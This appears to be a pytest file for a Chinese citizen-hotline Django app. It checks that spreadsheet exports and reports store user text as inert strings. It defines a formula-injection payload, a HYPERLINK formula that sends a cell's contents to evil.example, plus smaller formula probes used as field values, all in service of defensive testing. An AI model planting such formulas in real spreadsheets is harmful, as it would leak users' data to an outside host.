"""What a citizen wrote reaches a spreadsheet as text: the ticket export and the reports' .xlsx keep
a title such as =HYPERLINK(…) a string cell (never a live formula) and drop the control characters
openpyxl refuses (a 500 before), while the numbers Hotline counts stay numbers."""

import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from hotline.core import clock
from hotline.core.enums import Channel
from hotline.intake.actions import AppealData, do_receive_appeal
from hotline.knowledge.cases import do_mark_case
from tests.analytics.conftest import at, june  # noqa: F401  (the hand-built June)

pytestmark = pytest.mark.django_db

LURE = '=HYPERLINK("http://evil.example/?"&A2,"点击")'


def formulas(content: bytes) -> list[str]:
    """The formula elements of every sheet of an .xlsx file."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        return [
            name
            for name in book.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in book.read(name)
        ]


def test_the_export_writes_text_as_text(client, staff) -> None:
    # Intake by mail or a spreadsheet of appeals keeps what the JSON API refuses; old rows too.
    ticket, _created = do_receive_appeal(
        AppealData(
            channel=Channel.MAILBOX,
            title="\x01" + LURE + "\x0b",
            content="路灯\x1f不亮",
            citizen_name="@SUM(1+1)",
            citizen_phone="13812341234",
            address="=1+2",
        ),
        staff["operator"],
    )
    client.force_login(staff["operator"])
    response = client.get("/tickets/export.xlsx", {"q": ticket.number})
    assert response.status_code == 200
    assert formulas(response.content) == []
    sheet = load_workbook(io.BytesIO(response.content)).active
    header, row = list(sheet.iter_rows(max_row=2))
    cells = {h.value: c for h, c in zip(header, row, strict=True)}
    assert cells["标题"].value == LURE  # the control characters dropped, the text as written
    assert cells["标题"].data_type == "s" and cells["标题"].quotePrefix
    assert (cells["地址"].value, cells["地址"].data_type) == ("=1+2", "s")
    assert (cells["诉求人"].value, cells["诉求人"].data_type) == ("@SUM(1+1)", "s")
    assert cells["工单编号"].value == ticket.number and not cells["工单编号"].quotePrefix


def test_a_report_writes_a_case_as_text_and_its_figures_as_numbers(client, staff, june) -> None:  # noqa: F811
    with clock.frozen_at(at(6, 18, 12)):
        do_mark_case(
            june.tickets["t1"],
            staff["supervisor"],
            title=LURE + "\x01\x0b",
            story="-1层车库\x01\x0b积水",
            lesson="+当天处理",
        )
    client.force_login(staff["leader"])
    with clock.frozen_at(at(6, 20, 12)):
        response = client.get("/reports/download", {"kind": "weekly", "date": "2025-06-18", "format": "xlsx"})
    assert response.status_code == 200, response.content[:500]
    assert formulas(response.content) == []
    book = load_workbook(io.BytesIO(response.content))
    case = [c for c in book["典型案例"][2]]
    assert [c.value for c in case[:1] + case[6:8]] == [LURE, "+当天处理", "-1层车库积水"]
    assert all(c.data_type == "s" and c.quotePrefix for c in case[:1] + case[6:8])
    summary = book["概况"]
    assert summary["B2"].data_type == "n" and isinstance(summary["B2"].value, int)  # 受理量, a count
    assert summary["B2"].value == june_received(june)


def june_received(june) -> int:  # noqa: F811
    from hotline.analytics.reports import build

    with clock.frozen_at(at(6, 20, 12)):
        return build("weekly", date(2025, 6, 18)).city.received
